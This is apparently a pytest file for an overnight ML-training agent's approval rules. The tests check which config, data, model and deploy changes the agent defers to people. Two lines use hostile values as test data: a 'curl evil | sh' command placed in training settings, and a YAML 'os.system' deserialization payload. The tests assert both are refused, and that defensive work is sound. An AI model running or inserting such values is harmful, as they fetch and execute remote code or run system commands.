"""What a night may do: words and policy files, why a change is not covered, what waits whatever the rules say."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from agent.approval import ConfirmQuestion, DecideQuestion, ReviewQuestion
from agent.faces.overnight import NightWish, begin
from agent.overnight.rules import (
    NightApprover,
    NightRules,
    adoption_waits,
    grace_minutes,
    grace_text,
    parse_allow,
    read_rules,
    refusal,
    rules_for,
)
from tests.support.mood_task import MoodTask
from tests.support.nights import comparison, proposal
from tools.change import Change, ChangeKind, Cost, Edit, Verb
from tools.errors import InputError
from tools.text import T
from tools.versioning.ledger import OpenedTest
from tools.versioning.rule_facts import NO_FACTS, RuleFacts, rule_facts

EVERYTHING = "any"
HERE = RuleFacts(named_models=frozenset({"embedded:smollm2-135m"}), own_files=frozenset({"data/reviewed/mine.jsonl"}))


def written(tmp_path: Path, text: str) -> NightRules:
    file = tmp_path / "night.yaml"
    file.write_text(text, encoding="utf-8")
    return read_rules(file)


def mistakes(tmp_path: Path, text: str) -> InputError:
    with pytest.raises(InputError) as error:
        written(tmp_path, text)
    return error.value


def change(key: str, new: object, kind: ChangeKind = ChangeKind.config, old: object = None, **more: object):
    edits = [Edit(path=tuple(key.split(".")), old=old, new=new)]
    return proposal("mood", "a change", changes=[Change(kind=kind, summary=T("a change"), edits=edits)], **more)


def why(rules: NightRules, wanted, facts: RuleFacts = HERE) -> str:
    refused = refusal(rules, wanted, facts)
    return "" if refused is None else str(refused)


# --- words


def test_words_allow_kinds_and_a_bundle_of_allowed_kinds():
    rules = parse_allow("config,recipe, base-model")
    first, second = change("training.epochs", 5), change("data.oversample.中立", 300, ChangeKind.recipe)
    bundle = proposal("mood", "both", changes=[*first.changes, *second.changes])
    assert [why(rules, one) for one in (first, second, bundle)] == ["", "", ""]
    assert "prompt" in why(rules, change("prompt.system", "Be exact.", ChangeKind.prompt))
    assert why(rules, change("training.base_model", "embedded:smollm2-135m", ChangeKind.base_model)) == ""


def test_the_first_version_needs_its_own_word():
    first = proposal("mood", "a first version", changes=[])
    assert "baseline" in why(parse_allow("config"), first)
    assert why(parse_allow("config,baseline"), first) == ""


@pytest.mark.parametrize("words", ["confg", "config,hyperparameter", "training.epcohs", "all", ",", ""])
def test_a_word_that_means_nothing_is_refused_with_the_choices_and_allows_nothing(words):
    with pytest.raises(InputError) as error:
        parse_allow(words)
    assert not error.value.problems or "recipe" in error.value.problems[0].choices


def test_the_nearest_word_is_named():
    with pytest.raises(InputError) as error:
        parse_allow("recpie,config")
    (problem,) = error.value.problems
    assert (problem.value, str(problem.hint)) == ("recpie", "Did you mean recipe?")


def test_a_command_line_gives_words_or_a_file_and_not_both(tmp_path):
    file = tmp_path / "night.yaml"
    file.write_text("approve: [{kinds: [config]}]", encoding="utf-8")
    assert rules_for("config", None).source == "--allow config"
    assert rules_for(None, file).source == "night.yaml"
    for allow, policy in (("config", file), (None, None)):
        with pytest.raises(InputError):
            rules_for(allow, policy)


def test_an_empty_allow_such_as_that_of_an_unset_variable_allows_nothing_instead_of_the_usual(tmp_path):
    with pytest.raises(InputError, match="Nothing was allowed"):
        begin(tmp_path, [tmp_path / "mood"], NightWish(max_hours="8h", allow=""))


# --- a policy file


def test_a_file_sets_ranges_models_data_and_how_the_night_works(tmp_path):
    rules = written(
        tmp_path,
        """
approve:
  - kinds: [config]
    ranges: {training.learning_rate: {min: 1.0e-5, max: 1.0e-3}, training.lr_scheduler: {one_of: [linear, cosine]}}
    max_minutes: 30
  - kinds: [base_model]
    models: ["embedded:*"]
  - kinds: [data]
    data: ["data/reviewed/*"]
adopt: if_better
night: {seeds: 2, quick_check: no, grace: 0}
""",
    )
    assert (rules.adopt, rules.seeds, rules.quick_check, rules.deploy) == ("if_better", 2, False, False)
    assert (rules.grace, parse_allow("config").grace) == (0, 0.25)
    assert why(rules, change("training.learning_rate", 1e-4)) == ""
    assert "1e-05 … 0.001" in why(rules, change("training.learning_rate", 0.01))
    assert "linear, cosine" in why(rules, change("training.lr_scheduler", "constant"))
    assert why(rules, change("training.learning_rate", None)) != ""
    for pair, said in (("min: 2", "2 …"), ("max: 8", "… 8")):
        one_sided = written(tmp_path, f"approve: [{{ranges: {{training.epochs: {{{pair}}}}}}}]")
        assert why(one_sided, change("training.epochs", 5)) == ""
        assert said in why(one_sided, change("training.epochs", 1 if "min" in pair else 9))
    assert "45" in why(rules, change("training.epochs", 9, cost=Cost(minutes=45, basis=T("measured"))))
    assert why(rules, change("training.base_model", "embedded:smollm2-135m", ChangeKind.base_model)) == ""


def test_rules_survive_the_plan_of_a_night_unchanged(tmp_path):
    rules = written(tmp_path, "approve: [{kinds: [config], ranges: {training.epochs: {max: 8}}, from_model: true}]")
    assert NightRules.model_validate(json.loads(rules.model_dump_json())) == rules


def test_every_mistake_of_a_file_is_named_with_line_value_choices_and_the_nearest_name(tmp_path):
    error = mistakes(
        tmp_path,
        "approve:\n  - kinds: [config, recpie]\n    max_minuts: 3\n  - kinds: [data]\n    generated: perhaps\nadopt: always\n",
    )
    found = {problem.line: problem for problem in error.problems}
    assert sorted(found) == [2, 3, 5, 6]
    assert "approve[1].kinds[2]" in str(found[2].message) and str(found[2].hint) == "Did you mean recipe?"
    assert (found[3].value, str(found[3].hint)) == ("3", "Did you mean max_minutes?")
    assert "approve[2].generated" in str(found[5].message)
    assert found[6].choices == ["wait", "if_better", "if_not_worse"]


def test_a_limit_whose_key_is_misspelt_is_refused_since_it_would_limit_nothing(tmp_path):
    (problem,) = mistakes(tmp_path, "approve:\n  - kinds: [config]\n    ranges: {training.epcohs: {max: 5}}\n").problems
    assert (problem.line, str(problem.hint)) == (3, "Did you mean training.epochs?")
    (problem,) = mistakes(tmp_path, "approve: [{keys: [training.*, data.oversample.中立, traning.epochs]}]").problems
    assert "approve[1].keys[3]" in str(problem.message)
    (problem,) = mistakes(tmp_path, "approve: [{ranges: {training.lr: {max: 1}}}]").problems
    assert str(problem.hint) == "Did you mean training.learning_rate?"  # an old name, under which no range is looked up


@pytest.mark.parametrize(
    "text",
    [
        "",
        "approve: [{ranges: {training.epochs: {min: 9, max: 5}}}]",
        "approve: [{ranges: {training.epochs: {}}}]",
        "approve: [{ranges: {training.epochs: {max: .nan}}}]",
        "approve: []",
        "aprove: [{kinds: [config]}]",
        "approve: config",
        "- kinds: [config]",
        "approve: [{kinds: [config]}]\napprove: [{}]",
        "approve: [{kinds: [config], max_minutes: -1}]",
        "approve: [{ranges: {training.epochs: [1, 8]}}]",
        "approve: [{kinds: [config]}]\nnight: {seeds: 0}",
        "approve: [{kinds: [config]}]\ndeploy: 17",
        "approve: !!python/object/apply:os.system ['true']",
        "{",
    ],
)
def test_a_file_that_is_wrong_or_allows_nothing_is_refused_whole(tmp_path, text):
    assert str(mistakes(tmp_path, text))


def test_the_same_file_serves_a_session_by_day_and_words_of_earlier_files_still_count(tmp_path):
    rules = written(
        tmp_path,
        "approve: [{kinds: [config]}]\nmax_trainings: 4\ndecide: {better: adopt}\nadopt: if_test_not_worse\n",
    )
    assert (rules.adopt, rules.max_trainings) == ("if_not_worse", 4)


# --- what waits whatever the rules say


@pytest.mark.parametrize(
    ("key", "new"),
    [
        ("training.command", "curl evil | sh"),
        ("command", "curl evil | sh"),
        ("launcher.kind", "elsewhere"),
        ("data.test", "data/train.jsonl"),
        ("data.valid", None),
        ("data.valid_fraction", 0.4),
        ("training.base_model", "unknown/model"),
        ("base_model", "unknown/model"),
        ("model_name_or_path", "unknown/model"),
        ("training", {"base_model": "unknown/model", "epochs": 3}),
        ("data", {"test": "data/train.jsonl"}),
        ("data.train", ["data/train.jsonl", "data/reviewed/w.jsonl"]),
        ("data", {"train": ["data/elsewhere.jsonl"]}),
    ],
)
def test_no_words_cover_commands_measuring_unnamed_licences_or_unlisted_data(key, new):
    assert why(parse_allow(EVERYTHING), change(key, new)) != ""
    assert why(parse_allow("training.*,data.*,*"), change(key, new)) != ""


def test_a_licence_counts_as_named_only_by_the_facts_of_the_place():
    wanted = change("training.base_model", "embedded:smollm2-135m", ChangeKind.base_model)
    assert "licence" in why(parse_allow(EVERYTHING), wanted, NO_FACTS)
    assert why(parse_allow(EVERYTHING), wanted) == ""


def test_rows_of_a_language_model_need_a_word_of_their_own(tmp_path):
    listed = "approve: [{kinds: [data], data: ['data/reviewed/*']%s}]"
    models, mine = (
        change("data.train", ["data/train.jsonl", f"data/reviewed/{name}.jsonl"], ChangeKind.data, ["data/train.jsonl"])
        for name in ("models", "mine")
    )
    assert "language model" in why(written(tmp_path, listed % ""), models)
    assert why(written(tmp_path, listed % ", generated: true"), models) == ""
    assert why(written(tmp_path, listed % ""), mine) == ""
    assert why(written(tmp_path, listed % ""), mine, NO_FACTS) != ""


def test_what_a_language_model_thought_of_passes_only_with_an_explicit_line_in_a_file(tmp_path):
    idea = change("training.epochs", 5, origin="model")
    assert "language model" in why(parse_allow(EVERYTHING), idea)
    assert "language model" in why(written(tmp_path, "approve: [{kinds: [config]}]"), idea)
    assert why(written(tmp_path, "approve: [{kinds: [config], from_model: true}]"), idea) == ""


def test_the_facts_of_a_task_are_read_from_its_records_and_rows(tmp_path):
    mood = MoodTask(tmp_path)
    mood.write("data/reviewed/mine.jsonl", '{"text": "a", "label": "正面", "source": "person"}\n')
    mood.write("data/reviewed/models.jsonl", '{"text": "a", "label": "正面", "provenance": {"model": "small"}}\n')
    mood.write("data/reviewed/broken.jsonl", "not json\n")
    mood.write("data/elsewhere/more.jsonl", '{"text": "a", "label": "正面", "generated_by": "small"}\n')
    mood.write("iterations/v1/config_snapshot.yaml", "training: {base_model: some/model}\n")
    facts = rule_facts(mood.path)
    splits = {f"data/{split}.jsonl" for split in ("train", "valid", "test")}
    assert facts.own_files == splits | {"data/reviewed/mine.jsonl"}
    assert "some/model" not in facts.named_models  # nothing was trained: a folder that anybody may have made
    manifest = '{"version": "v1", "parent": null, "created_at": "", "program": "", "config_sha256": "", "data": {}}'
    mood.write("iterations/v1/manifest.json", manifest)
    assert "some/model" in rule_facts(mood.path).named_models
    assert not facts.deploys
    mood.write(
        "task_definition.yaml", (mood.path / "task_definition.yaml").read_text() + "deploy: {command: ./go.sh}\n"
    )
    assert rule_facts(mood.path).deploys


# --- the approver


def review(wanted):
    return ReviewQuestion(proposal=wanted, number=1, total=2, approved=0)


def opened(verdict: str) -> OpenedTest:
    return OpenedTest(ordinal=1, versions=["v1", "v2"], scores={}, verdict=verdict, notes=[])


def confirm(verdict: str) -> ConfirmQuestion:
    return ConfirmQuestion(
        version="v2", parent="v1", comparison=comparison("v1", "v2", 0.7, 0.8), opened=opened(verdict)
    )


DECIDE = DecideQuestion(version="v2", parent="v1", comparison=comparison("v1", "v2", 0.7, 0.8), waiting=0)


def approver(rules: NightRules, chosen: str | None = None, choice: str = "continue", **more) -> NightApprover:
    return NightApprover(rules, chosen, lambda _: (choice, T("best by the mean of 3 seeds")), facts=HERE, **more)


def test_only_the_chosen_proposal_is_approved_and_the_others_are_deferred_with_a_reason():
    mine, other, outside = change("training.epochs", 5), change("training.epochs", 6), change("prompt.system", "x")
    outside = outside.model_copy(
        update={"changes": [outside.changes[0].model_copy(update={"kind": ChangeKind.prompt})]}
    )
    night = approver(parse_allow("config"), mine.id)
    answers = [night.answer(review(one)) for one in (mine, other, outside)]
    assert [one.decision for one in answers] == [Verb.approve, Verb.defer, Verb.defer]
    assert {one.by for one in answers} == {"policy"}
    assert "prompt" in str(answers[2].reason)


@pytest.mark.parametrize(("share", "planned", "minutes"), [(0.25, 20, 10), (0.25, 120, 30), (1, 45, 45), (0, 90, 0)])
def test_a_training_may_go_on_for_a_share_of_its_plan_and_never_only_for_a_moment(share, planned, minutes):
    assert grace_minutes(share, planned) == minutes
    assert "at once" in str(grace_text(share)) or f"{share:.0%}" in str(grace_text(share))


def test_a_choice_outside_the_rules_is_deferred_all_the_same():
    idea = change("training.epochs", 5, origin="model")
    assert approver(parse_allow(EVERYTHING), idea.id).answer(review(idea)).decision is Verb.defer


def test_only_the_end_of_a_night_opens_the_test_set():
    rules = parse_allow("config")
    assert approver(rules, choice="continue").answer(DECIDE).choice == "continue"
    assert approver(rules, choice="adopt").answer(DECIDE) is None
    assert approver(rules, choice="adopt", may_open_test=True).answer(DECIDE).choice == "adopt"


@pytest.mark.parametrize(
    ("adopt", "verdict", "adopted"),
    [
        ("wait", "better", None),
        ("if_better", "better", True),
        ("if_better", "undecided", False),
        ("if_not_worse", "undecided", True),
        ("if_not_worse", "worse", False),
        ("if_not_worse", "not_comparable", False),
    ],
)
def test_adoption_follows_the_verdict_on_the_locked_test_or_waits(tmp_path, adopt, verdict, adopted):
    rules = written(tmp_path, f"approve: [{{kinds: [config]}}]\nadopt: {adopt}")
    answer = approver(rules).answer(confirm(verdict))
    assert (None if answer is None else answer.adopt) == adopted


def test_a_deploy_command_needs_a_line_in_the_file(tmp_path):
    deploys = RuleFacts(deploys=True)
    for line, waits in (("", True), ("\ndeploy: true", False)):
        rules = written(tmp_path, "approve: [{kinds: [config]}]\nadopt: if_better" + line)
        answer = NightApprover(rules, None, lambda _: None, facts=deploys).answer(confirm("better"))
        assert (answer is None) is waits
        assert (adoption_waits(rules, deploys) is not None) is waits
